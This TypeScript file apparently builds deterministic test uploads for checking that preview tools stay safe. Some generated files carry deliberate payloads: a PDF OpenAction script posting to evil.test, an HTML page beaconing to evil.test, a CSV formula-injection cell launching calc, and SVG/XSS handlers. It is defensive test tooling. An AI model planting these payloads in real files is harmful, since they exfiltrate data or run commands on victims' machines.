// Small, valid files of each uploaded type. Reviewers' tools preview and hash these bytes, so
// they have to be real: a PNG that decodes, a PDF with a correct xref table, a DOCX that is a
// valid ZIP. Bytes depend only on the arguments, never on the clock.

import { deflateSync } from "node:zlib";
import { Rng } from "./prng";
import { HOSTILE_SNIPPETS } from "./hostile";
import { MULTILINGUAL } from "./corpus";
import { gif, jpeg, webp } from "./raster-bytes";

/**
 * The upload types generic chats draw from, then those only the scripted chats carry: a large disk
 * image, and the preview corpus (an HTML page with a script, three more raster formats, a text longer
 * than a preview, a PDF that runs JavaScript when opened).
 */
export type FileType = "pdf" | "png" | "csv" | "docx" | "txt" | "json" | "md" | "svg" | "bin" | "html" | "jpeg" | "gif" | "webp" | "long-txt" | "pdf-js";

export const MIME_TYPES: Readonly<Record<FileType, string>> = {
  pdf: "application/pdf",
  png: "image/png",
  csv: "text/csv",
  docx: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
  txt: "text/plain",
  json: "application/json",
  md: "text/markdown",
  svg: "image/svg+xml",
  bin: "application/octet-stream",
  html: "text/html",
  jpeg: "image/jpeg",
  gif: "image/gif",
  webp: "image/webp",
  "long-txt": "text/plain",
  "pdf-js": "application/pdf",
};

export const UPLOAD_TYPES = ["pdf", "png", "csv", "docx", "txt", "json", "md", "svg"] as const satisfies readonly FileType[];
export type GenericUploadType = (typeof UPLOAD_TYPES)[number];

const CRC_TABLE = (() => {
  const t = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    t[n] = c >>> 0;
  }
  return t;
})();

export function crc32(buf: Uint8Array): number {
  let c = 0xffffffff;
  for (let i = 0; i < buf.length; i++) c = CRC_TABLE[(c ^ buf[i]!) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

export interface FileSpec {
  type: FileType;
  /** Keys the bytes (same keys -> same bytes). */
  key: number;
  /** Human text embedded in the document (title / first line). */
  title: string;
  hostile: boolean;
}

export function fileBytes(spec: FileSpec): Buffer {
  const rng = new Rng(spec.key, 0xf11e);
  switch (spec.type) {
    case "png":
      return png(rng);
    case "pdf":
      return pdf(spec.title, rng);
    case "csv":
      return csv(rng, spec.hostile);
    case "docx":
      return docx(spec.title, rng, spec.hostile);
    case "txt":
      return Buffer.from(txt(spec.title, rng, spec.hostile), "utf8");
    case "json":
      return Buffer.from(json(spec.title, rng, spec.hostile), "utf8");
    case "md":
      return Buffer.from(markdown(spec.title, rng, spec.hostile), "utf8");
    case "svg":
      return Buffer.from(svg(rng, spec.hostile), "utf8");
    case "bin": {
      const b = Buffer.alloc(512 + rng.int(4096));
      rng.fill(b);
      return b;
    }
    case "html":
      return Buffer.from(html(spec.title, rng), "utf8");
    case "jpeg":
      return jpeg(rng);
    case "gif":
      return gif(rng);
    case "webp":
      return webp(rng);
    case "long-txt":
      return Buffer.from(longLog(rng), "utf8");
    case "pdf-js":
      return pdf(spec.title, rng, `app.alert("pdf-openaction"); this.submitForm("https://evil.test/pdf-openaction");`);
  }
}

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([len, body, crc]);
}

function png(rng: Rng): Buffer {
  const width = 8 + rng.int(25);
  const height = 8 + rng.int(25);
  const [r0, g0, b0] = [rng.int(256), rng.int(256), rng.int(256)];
  const raw = Buffer.alloc((width * 3 + 1) * height);
  let o = 0;
  for (let y = 0; y < height; y++) {
    raw[o++] = 0; // filter: none
    for (let x = 0; x < width; x++) {
      raw[o++] = (r0 + x * 7) & 0xff;
      raw[o++] = (g0 + y * 5) & 0xff;
      raw[o++] = (b0 + (x ^ y) * 3) & 0xff;
    }
  }
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // colour type: truecolour
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", ihdr),
    pngChunk("IDAT", deflateSync(raw)),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

function pdfString(s: string): string {
  return s.replace(/[^\x20-\x7e]/g, "?").replace(/([()\\])/g, "\\$1");
}

/** `openActionScript`: JavaScript the catalog's OpenAction runs when a viewer that allows it opens the file. */
function pdf(title: string, rng: Rng, openActionScript?: string): Buffer {
  const lines = [title, `Reference ${rng.next().toString(16)}`, "Confidential - prepared for internal review."];
  const text = lines.map((l, i) => `BT /F1 ${i === 0 ? 18 : 11} Tf 72 ${720 - i * 28} Td (${pdfString(l)}) Tj ET`).join("\n");
  const objects = [
    openActionScript === undefined ? "<< /Type /Catalog /Pages 2 0 R >>" : "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
    `<< /Length ${Buffer.byteLength(text, "latin1")} >>\nstream\n${text}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  ];
  if (openActionScript !== undefined) objects.push(`<< /Type /Action /S /JavaScript /JS (${pdfString(openActionScript)}) >>`);
  let out = "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n";
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(Buffer.byteLength(out, "latin1"));
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, "latin1");
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const off of offsets) out += `${String(off).padStart(10, "0")} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, "latin1");
}

function csvCell(v: string): string {
  return /[",\n\r]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
}

function csv(rng: Rng, hostile: boolean): Buffer {
  const rows = [["id", "customer", "region", "amount", "notes"]];
  const customers = ["Acme Corp", "Globex, Inc.", 'Initech "Ltd"', "Société Générale", "株式会社テスト", "شركة الأمل", "ООО Ромашка"];
  const n = 5 + rng.int(30);
  for (let i = 1; i <= n; i++) {
    rows.push([
      String(i),
      rng.pick(customers),
      rng.pick(["EMEA", "APAC", "NA", "LATAM"]),
      (rng.int(1_000_000) / 100).toFixed(2),
      rng.chance(0.2) ? "multi\nline note" : "",
    ]);
  }
  if (hostile) rows.push(["999", HOSTILE_SNIPPETS[14]!, "=cmd|' /C calc'!A0", "@SUM(1+1)", HOSTILE_SNIPPETS[0]!]);
  return Buffer.from(rows.map((r) => r.map(csvCell).join(",")).join("\r\n") + "\r\n", "utf8");
}

function xmlEscape(s: string): string {
  return s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");
}

interface ZipEntry {
  name: string;
  data: Buffer;
}

/** Minimal ZIP writer (stored entries, fixed 1980 timestamps so bytes are deterministic). */
export function zip(entries: readonly ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, "utf8");
    const crc = crc32(e.data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(0, 8); // stored
    local.writeUInt16LE(0, 10);
    local.writeUInt16LE(0x21, 12); // 1980-01-01
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(e.data.length, 18);
    local.writeUInt32LE(e.data.length, 22);
    local.writeUInt16LE(name.length, 26);
    locals.push(local, name, e.data);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(0, 10);
    central.writeUInt16LE(0, 12);
    central.writeUInt16LE(0x21, 14);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(e.data.length, 20);
    central.writeUInt32LE(e.data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    centrals.push(central, name);
    offset += local.length + name.length + e.data.length;
  }
  const centralSize = centrals.reduce((s, b) => s + b.length, 0);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(centralSize, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, ...centrals, end]);
}

function docx(title: string, rng: Rng, hostile: boolean): Buffer {
  const paragraphs = [title, rng.pick(MULTILINGUAL).text, "This agreement is entered into by the parties listed below."];
  if (hostile) paragraphs.push(HOSTILE_SNIPPETS[0]!, HOSTILE_SNIPPETS[2]!);
  const body = paragraphs.map((p) => `<w:p><w:r><w:t xml:space="preserve">${xmlEscape(p)}</w:t></w:r></w:p>`).join("");
  return zip([
    {
      name: "[Content_Types].xml",
      data: Buffer.from(
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
      ),
    },
    {
      name: "_rels/.rels",
      data: Buffer.from(
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
      ),
    },
    {
      name: "word/document.xml",
      data: Buffer.from(
        `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`,
        "utf8",
      ),
    },
  ]);
}

function txt(title: string, rng: Rng, hostile: boolean): string {
  const lines = [title, "", rng.pick(MULTILINGUAL).text, rng.pick(MULTILINGUAL).text];
  if (hostile) lines.push("", ...HOSTILE_SNIPPETS.slice(0, 6));
  return lines.join("\n") + "\n";
}

function json(title: string, rng: Rng, hostile: boolean): string {
  const items = Array.from({ length: 3 + rng.int(6) }, (_, i) => ({
    id: i + 1,
    label: rng.pick(MULTILINGUAL).text.slice(0, 40),
    value: rng.int(10_000) / 100,
    active: rng.chance(0.5),
  }));
  return JSON.stringify({ title, generated: "2026-01-15T09:30:00Z", items, ...(hostile ? { html: HOSTILE_SNIPPETS[1] } : {}) }, null, 2) + "\n";
}

function markdown(title: string, rng: Rng, hostile: boolean): string {
  const parts = [
    `# ${title}`,
    "",
    "## Summary",
    "",
    `- Owner: ${rng.pick(["Legal", "Engineering", "Finance"])}`,
    "- Status: **draft**",
    "",
    "| Item | Due |",
    "|---|---|",
    "| Review | 2026-05-01 |",
    "",
    "```bash\ncurl -sS https://api.example.com/health\n```",
    "",
    rng.pick(MULTILINGUAL).text,
  ];
  if (hostile) parts.push("", HOSTILE_SNIPPETS[2]!, HOSTILE_SNIPPETS[4]!, HOSTILE_SNIPPETS[10]!);
  return parts.join("\n") + "\n";
}

/** An HTML page as users upload them: a document with a script and an inline handler that must never run. */
function html(title: string, rng: Rng): string {
  const invoice = `2026-${String(1 + rng.int(9999)).padStart(4, "0")}`;
  return [
    "<!doctype html>",
    `<html lang="en"><head><meta charset="utf-8"><title>Invoice ${invoice}</title></head>`,
    "<body>",
    `<h1>Invoice ${invoice}</h1>`,
    `<p>${xmlEscape(title)}: amount due ${(rng.int(1_000_000) / 100).toFixed(2)} EUR.</p>`,
    `<script>window.__xss=1;navigator.sendBeacon("https://evil.test/html-upload")</script>`,
    `<img src="x" onerror="window.__xss=1">`,
    "</body></html>",
    "",
  ].join("\n");
}

/** The bytes of the long log: past the 256 KiB that a text preview shows. */
export const LONG_LOG_MIN_BYTES = 320 * 1024;

/** Its last line, which a capped preview never reaches. */
export const LONG_LOG_LAST_LINE = "END OF LOG: this line lies past any 256 KiB preview.";

/** A server log longer than a text preview, one request a line. */
function longLog(rng: Rng): string {
  const lines: string[] = [];
  let bytes = 0;
  for (let n = 1; bytes < LONG_LOG_MIN_BYTES; n++) {
    const line = `2026-04-01T09:${String(Math.floor(n / 60) % 60).padStart(2, "0")}:${String(n % 60).padStart(2, "0")}Z INFO request ${String(n).padStart(6, "0")} ${rng.pick(["GET", "POST", "PUT"])} /api/v1/records/${rng.int(100_000)} ${rng.pick(["200", "200", "204", "404"])} ${rng.int(900) + 10}ms`;
    lines.push(line);
    bytes += Buffer.byteLength(line) + 1;
  }
  lines.push(LONG_LOG_LAST_LINE);
  return lines.join("\n") + "\n";
}

function svg(rng: Rng, hostile: boolean): string {
  const shapes = Array.from({ length: 3 + rng.int(5) }, () => {
    const colour = `#${rng.int(0xffffff).toString(16).padStart(6, "0")}`;
    return `<circle cx="${rng.int(200)}" cy="${rng.int(120)}" r="${5 + rng.int(30)}" fill="${colour}"/>`;
  }).join("");
  const script = hostile ? `<script>window.__xss=1</script><a href="javascript:window.__xss=1"><text x="10" y="20">click</text></a>` : "";
  return `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="200" height="120" viewBox="0 0 200 120"${hostile ? ' onload="window.__xss=1"' : ""}>${shapes}${script}</svg>\n`;
}
